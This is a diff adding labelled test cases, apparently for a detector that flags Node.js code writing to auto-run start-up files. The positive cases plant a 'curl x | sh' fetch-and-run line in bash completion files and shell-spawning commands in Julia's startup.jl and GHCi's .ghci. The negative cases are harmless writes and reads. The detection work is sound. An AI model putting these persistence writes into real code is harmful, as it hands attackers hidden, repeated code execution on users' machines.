@@ -164,3 +164,27 @@ fs.copyFileSync('./d.plist', '/Library/LaunchDaemons/com.x.plist');
 //@ neg an app bundle's Info.plist
 const fs = require('fs');
 fs.writeFileSync('./build/App.app/Contents/Info.plist', '<plist/>');
+//@ pos appended to the user's bash completion file
+const fs = require('fs');
+const os = require('os');
+fs.appendFileSync(os.homedir() + '/.bash_completion', 'curl x | sh\n');
+//@ pos a completion script in bash-completion's user folder
+const fs = require('fs');
+const os = require('os');
+fs.writeFileSync(`${os.homedir()}/.local/share/bash-completion/completions/git`, 'curl x | sh\n');
+//@ pos Julia's start-up file written
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+fs.writeFileSync(path.join(os.homedir(), '.julia', 'config', 'startup.jl'), 'run(`sh`)\n');
+//@ pos GHCi's start-up file appended to
+const fs = require('fs');
+const os = require('os');
+fs.appendFileSync(`${os.homedir()}/.ghci`, ':! sh\n');
+//@ neg a completion script written in the project
+const fs = require('fs');
+fs.writeFileSync('./dist/completion.bash', 'complete -W "a b" tool\n');
+//@ neg Julia's start-up file read
+const fs = require('fs');
+const os = require('os');
+console.log(fs.readFileSync(os.homedir() + '/.julia/config/startup.jl', 'utf8').length);
